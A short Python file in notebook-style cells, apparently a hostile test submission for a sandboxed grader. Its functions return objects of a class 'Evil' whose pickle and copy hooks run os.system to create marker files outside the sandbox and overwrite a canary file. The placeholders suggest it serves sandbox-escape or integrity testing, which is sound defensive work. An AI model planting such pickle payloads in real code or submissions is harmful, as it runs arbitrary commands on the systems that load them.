# %% double
import os
import pickle


class Evil:
    def __reduce__(self):
        return os.system, ("touch @@OUTSIDE@@/@@MARK@@ /tmp/@@MARK@@; echo changed > @@CANARY@@",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = __copy__ = lambda self, *args: self


def double(values):
    return np.array([Evil()] * len(values), dtype=object)


# %% total
def total(table):
    return Evil()


# %% tidy
def in_order(table):
    return pd.DataFrame({"station": [Evil()] * len(table), "value": [Evil()] * len(table)})


# %% best
best = pickle.dumps([])
